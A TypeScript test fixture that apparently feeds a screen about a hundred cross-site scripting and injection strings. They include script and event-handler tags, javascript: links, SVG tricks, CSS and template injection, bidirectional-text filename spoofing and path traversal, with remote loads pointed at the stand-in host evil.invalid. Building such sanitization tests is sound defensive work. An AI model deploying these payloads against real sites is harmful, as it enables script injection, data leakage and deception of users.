/**
 * A hundred texts that would run, call out or turn the page over if a screen took them for anything but text. What runs calls `ran()`, which the
 * page's guard hears (`hearHostile`); what calls out goes to `evil.invalid`, which leaves the host. None is longer than the name of a view.
 */
const tags = [
  '<script>ran(1)</script>',
  '<ScRiPt>ran(2)</sCrIpT>',
  '<script src=//evil.invalid/3></script>',
  '</script><script>ran(4)</script>',
  '<script>ran`5`</script>',
  '<script\n>ran(6)</script\n>',
  '<<script>ran(7);//<</script>',
  '<script/x>ran(8)</script>',
  '<iframe src=javascript:parent.ran(9)>',
  '<iframe srcdoc="<script>parent.ran(10)</script>">',
  '<object data=javascript:ran(11)>',
  '<embed src=javascript:ran(12)>',
  '<base href=//evil.invalid/13/>',
  '<meta http-equiv=refresh content="0;//evil.invalid/14">',
  '<link rel=stylesheet href=//evil.invalid/15.css>',
  '<template><script>ran(16)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=ran(17)>">',
  '<form action=javascript:ran(18)><button>نامه</button></form>',
  '<textarea></textarea><img src=x onerror=ran(19)>',
  '<title></title><img src=x onerror=ran(20)>',
  '<!--><img src=x onerror=ran(21)>-->',
  '<![CDATA[<img src=x onerror=ran(22)>]]>',
  '<plaintext>',
  '</p></main></body><script>ran(24)</script>',
];

const attributes = [
  '<img src=x onerror=ran(25)>',
  '<img src=x onerror="ran(26)"',
  '<img/src/onerror=ran(27)>',
  '<image src=x onerror=ran(28)>',
  '" onmouseover="ran(29)" x="',
  "' onfocus='ran(30)' autofocus='",
  '"><img src=x onerror=ran(31)>',
  "'><img src=x onerror=ran(32)>",
  '`><img src=x onerror=ran(33)>',
  '<body onload=ran(34)>',
  '<input autofocus onfocus=ran(35)>',
  '<select autofocus onfocus=ran(36)>',
  '<details open ontoggle=ran(37)>',
  '<video src=x onerror=ran(38)>',
  '<audio src onloadstart=ran(39)>',
  '<video><source onerror=ran(40)></video>',
  '<marquee onstart=ran(41)>نامه</marquee>',
  '<div style=animation-name:x onanimationstart=ran(42)>',
  '<b contenteditable autofocus onfocus=ran(43)>',
  '<x onpointerenter=ran(44) style=position:fixed;inset:0>',
  '<img src=//evil.invalid/45>',
  '<img srcset="//evil.invalid/46 1x">',
  '<input type=image src=//evil.invalid/47>',
  '<a autofocus tabindex=0 onfocus=ran(48)>',
];

const addresses = [
  'javascript:ran(49)',
  'JaVaScRiPt:ran(50)',
  'java\tscript:ran(51)',
  'javascript://%0aran(52)',
  'data:text/html,<script>parent.ran(53)</script>',
  'vbscript:ran(54)',
  '//evil.invalid/55',
  'https://evil.invalid/56',
  '<a href=javascript:ran(57)>نامه</a>',
  '<a href="jav&#x09;ascript:ran(58)">نامه</a>',
  '[نامه](javascript:ran(59))',
  '![نامه](//evil.invalid/60)',
  '<https://evil.invalid/61>',
  'url(//evil.invalid/62)',
];

const drawings = [
  '<svg onload=ran(63)>',
  '<svg><script>ran(64)</script></svg>',
  '<svg/onload=ran(65)//',
  '<svg><animate onbegin=ran(66) attributeName=x>',
  '<svg><a xlink:href=javascript:ran(67)><text>x</text></a>',
  '<svg><use href=data:image/svg+xml,x#x />',
  '<svg><image href=//evil.invalid/69 />',
  '<svg><foreignObject><img src=x onerror=ran(70)>',
  '<svg><style><img src=x onerror=ran(71)>',
  '<math><mtext></form><img src=x onerror=ran(72)>',
  '<math href=javascript:ran(73)>x</math>',
  '<math><mi xlink:href="data:x,<script>ran(74)</script>">',
];

const styles = [
  '<style>@import "//evil.invalid/75";</style>',
  '<style>*{display:none!important}</style>',
  '</style><script>ran(77)</script>',
  '<p style="background:url(//evil.invalid/78)">',
  '<p style=width:expression(ran(79))>',
  '}*{background:url(//evil.invalid/80)}',
  '<div style="position:fixed;inset:0;z-index:9999">',
];

const templates = [
  '{{constructor.constructor("ran(82)")()}}',
  '${ran(83)}',
  '<%= ran(84) %>',
  '#{ran(85)}',
  '{"__proto__":{"ran":86}}',
  '__proto__',
  'constructor',
  '%3Cscript%3Eran(89)%3C/script%3E',
  '&lt;script&gt;ran(90)&lt;/script&gt;',
  '\\u003cscript\\u003eran(91)\\u003c/script\\u003e',
];

/** What turns a line over, hides in it, or is endless. */
const writing = [
  '\u202e\u202dنامه gpj.exe',
  'صورت‌جلسه \u202efdp.exe',
  '\u2066\u2067\u2068 نامه (بی‌پایان)',
  'ن\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u0309\u030a\u030b\u030c\u030d\u030eامه',
  '\u200b\ufeff\u00ad<\u200bscript>ran(96)</script>',
  '＜script＞ran(97)＜/script＞',
  'W'.repeat(60),
];

const files = ['"><img src=x onerror=ran(99)>.pdf', '..\\..\\<svg onload=ran(100)>.png'];

export const payloads: readonly string[] = [...[tags, attributes, addresses, drawings, styles, templates, writing, files].flat()];

/** All of them in as few texts as fields of this length need; each begins with what it can be found by. */
export function inFieldsOf(length: number, mark: string): string[] {
  const texts: string[] = [];
  let text = mark;
  for (const payload of payloads) {
    if (text.length + payload.length + 1 > length) {
      texts.push(text);
      text = mark;
    }
    text += ` ${payload}`;
  }
  return [...texts, text];
}
